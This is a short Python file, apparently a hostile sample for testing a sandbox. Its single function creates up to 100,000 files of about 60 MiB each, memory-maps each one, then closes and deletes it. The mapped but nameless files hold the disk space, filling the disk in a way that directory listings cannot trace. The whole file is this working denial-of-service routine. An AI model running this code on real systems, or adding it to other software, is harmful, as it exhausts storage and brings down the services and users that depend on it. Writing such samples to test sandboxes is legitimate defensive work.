"""Fills the disk with files that have no name any more, and are mapped but not open."""

import ctypes
import os


def hostile(*arguments, **options):
    libc = ctypes.CDLL(None)
    for number in range(100_000):
        file = os.open(f"{number}.bin", os.O_RDWR | os.O_CREAT)
        for _ in range(60):
            os.write(file, bytes(2**20))
        libc.mmap(None, 4096, 1, 1, file, 0)
        os.close(file)
        os.unlink(f"{number}.bin")
    return 0
